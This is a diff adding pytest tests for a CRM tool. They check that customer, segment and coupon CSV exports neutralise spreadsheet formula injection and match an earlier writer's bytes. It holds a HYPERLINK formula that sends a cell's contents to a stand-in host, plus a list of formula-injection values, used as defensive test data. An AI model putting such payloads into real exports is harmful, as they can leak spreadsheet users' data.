@@ -1,0 +1,128 @@
+"""Exports written by DuckDB's COPY with formulas neutralised in SQL: byte for byte the pandas writer's file (issue 16)."""
+
+from __future__ import annotations
+
+import sys
+import unicodedata
+
+import pytest
+
+from crm_core import model
+from crm_core.audience import segments as S
+from crm_core.db import Store
+from crm_core.export import FORMULA_FIRST, copy_csv, cp932_unencodable, to_csv_bytes
+from crm_core.messaging import coupons as K
+from crm_core.model import export as model_export
+from crm_core.pipeline import import_files
+from tests import fixtures as fx
+
+EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"ゴールド")'
+HOSTILE = [
+    "=1+2", "+81 90", "-5", "@SUM(A1)", "\tタブ", "\r改行", "＝SUM(A1)", "＋1", "－1", "＠x", "⁼x", "﹦x", "⩵x",
+    "=\u0338x", "", None, 'a,"b"', "行1\r\n行2", "𠮷田 é😀", "髙橋 ①子", "普通", " =space first", "'=already",
+]
+
+
+def _hostile_store() -> Store:
+    store = Store(":memory:")
+    store.execute(
+        "CREATE TABLE t (i INTEGER, txt VARCHAR, n BIGINT, d DOUBLE, m DECIMAL(18,2), b BOOLEAN, ts TIMESTAMP, day DATE)"
+    )
+    for i, text in enumerate(HOSTILE):
+        store.execute(
+            "INSERT INTO t VALUES (?, ?, ?, ?, ?, ?, TIMESTAMP '2026-01-02 03:04:05' + to_days(?), DATE '2026-01-02' + ?)",
+            [i, text, None if i % 3 else i * 1000, [1.5, float("nan"), None, 1e20, 0.1][i % 5], [5760, None, 12.5][i % 3],
+             [True, False, None][i % 3], i, i],
+        )
+    return store
+
+
+def test_formula_first_is_every_character_nfkc_starts_a_formula_with():
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    every = {
+        chr(c) for c in range(sys.maxunicode + 1)
+        if not 0xD800 <= c <= 0xDFFF and unicodedata.normalize("NFKC", chr(c)).startswith(starts)
+    }
+    assert set(FORMULA_FIRST) == every
+
+
+@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
+@pytest.mark.parametrize("headers", [["i", "txt", "n", "d", "m", "b", "ts", "day"],
+                                     ["番号", EVIL, "+n", "-d", "@m", "\tb", "＝ts", "day"]])
+def test_copy_csv_writes_the_pandas_writers_bytes_for_hostile_cells_and_headers(tmp_path, encoding, headers):
+    store = _hostile_store()
+    names = ["i", "txt", "n", "d", "m", "b", "ts", "day"]
+    df = store.df("SELECT " + ", ".join(names) + " FROM t ORDER BY i")
+    df.columns = headers
+    # what the earlier writers did: DataFrame.to_csv after neutralise(), the header row included
+    expected = to_csv_bytes(df, encoding)
+    out = tmp_path / "t.csv"
+    bad: set[str] = set()
+    rows = copy_csv(store, list(zip(names, headers)), "FROM t ORDER BY i", None, out, encoding, bad)
+    assert rows == len(HOSTILE)
+    assert out.read_bytes() == expected
+    assert bad == (cp932_unencodable(df) if encoding == "cp932" else set())
+    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]  # nothing left beside it
+
+
+def test_copy_csv_is_all_or_nothing(tmp_path):
+    store = _hostile_store()
+    out = tmp_path / "t.csv"
+    out.write_bytes(b"previous export")
+    with pytest.raises(Exception, match="(?i)convert|conversion"):
+        copy_csv(store, [("CAST(txt AS INTEGER)", "x")], "FROM t WHERE txt IS NOT NULL", None, out)
+    assert out.read_bytes() == b"previous export"
+    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]
+
+
+@pytest.fixture(scope="module")
+def shop(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("shop")
+    store = Store(tmp / "crm.duckdb")
+    import_files(store, [fx.rakuten_current(tmp / "r.csv")])
+    ids = [r[0] for r in store.fetchall("SELECT customer_id FROM customer_model ORDER BY customer_id")]
+    for cid, text in zip(ids, HOSTILE):
+        store.execute("UPDATE customer_model SET name = ?, prefecture = ?, last_product_name = ? WHERE customer_id = ?",
+                      [text, text, text, cid])
+    return store
+
+
+@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
+def test_customer_export_matches_the_pandas_writer(shop, tmp_path, encoding):
+    old, new = tmp_path / "old.csv", tmp_path / "new.csv"
+    bad_old: set[str] = set()
+    bad_new: set[str] = set()
+    n_old = model_export._write_export_pandas(shop, old, encoding, bad_old)
+    n_new = model.export_customers(shop, new, encoding=encoding, unencodable=bad_new)
+    assert n_new == n_old > 0
+    assert new.read_bytes() == old.read_bytes()
+    assert bad_new == bad_old
+    assert "'=1+2" in new.read_bytes().decode(encoding)
+
+
+@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
+@pytest.mark.parametrize("opted_in_only", [False, True])
+def test_segment_export_matches_the_pandas_writer(shop, tmp_path, encoding, opted_in_only):
+    rule = {"all": [{"field": "orders", "op": "gte", "value": 1}]}
+    df = S.export_frame(shop, rule, opted_in_only)
+    out = tmp_path / "seg.csv"
+    report = S.export_csv(shop, rule, out, encoding=encoding, opted_in_only=opted_in_only)
+    assert report["rows"] == len(df)
+    assert out.read_bytes() == to_csv_bytes(df, encoding)
+    assert report["unencodable"] == (sorted(cp932_unencodable(df)) if encoding == "cp932" else [])
+
+
+@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
+def test_coupon_code_export_matches_the_pandas_writer(shop, tmp_path, encoding):
+    import datetime as dt
+
+    coupon = K.Coupon(name=EVIL + "😀", kind="percent", value=10, min_purchase=3000, code_mode="unique",
+                      valid_from=dt.datetime(2026, 12, 1), valid_to=dt.datetime(2026, 12, 31, 23, 59))
+    cid = K.create_coupon(shop, coupon)
+    K.issue_unique_codes(shop, cid, [r[0] for r in shop.fetchall("SELECT customer_id FROM customer_model")])
+    df = K.export_codes(shop, cid)
+    out = tmp_path / "codes.csv"
+    report = K.export_codes_csv(shop, cid, out, encoding)
+    assert report["rows"] == len(df) > 0
+    assert out.read_bytes() == to_csv_bytes(df, encoding)
+    assert report["unencodable"] == (sorted(cp932_unencodable(df)) if encoding == "cp932" else [])
